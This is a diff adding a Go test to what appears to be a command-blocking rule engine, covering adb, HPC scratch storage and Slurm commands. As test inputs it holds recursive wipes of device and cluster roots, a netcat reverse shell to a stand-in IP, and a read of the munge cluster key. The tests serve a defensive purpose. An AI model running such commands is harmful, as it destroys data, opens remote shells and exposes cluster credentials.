@@ -390,3 +390,23 @@ func TestEnvSecretPrintForms(t *testing.T) {
 		{`node -e 'console.log(process.env.API_TOKEN ?? "none")'`, "secrets:secret-print"},
 	})
 }
+
+// TestDevicesAndClusterRoots covers commands run on an attached device
+// (adb shell), shared storage roots of clusters and devices, batch jobs'
+// wrapped scripts and the nodes srun reaches.
+func TestDevicesAndClusterRoots(t *testing.T) {
+	t.Parallel()
+	e := newEngine(t, DefaultConfig())
+	checkDecisions(t, e, []ruleCase{
+		{`adb shell rm -rf /sdcard/*`, "rm-root"},
+		{`adb shell ls /sdcard`, ""},
+		{`adb shell "busybox nc 198.51.100.23 4444 -e /system/bin/sh"`, "egress:shell-socket"},
+		{`rm -rf /scratch/*`, "rm-root"},
+		{`rm -rf /lustre/project/*`, "rm-root"},
+		{`rm -rf /scratch/$USER/job-4711`, ""},
+		{`sbatch --wrap='rm -rf ~' -p short`, "rm-root"},
+		{`sbatch --wrap='python train.py' -p short`, ""},
+		{`srun -N 4 python train.py`, ""},
+		{`cat /etc/munge/munge.key`, "paths:credential-read"},
+	})
+}
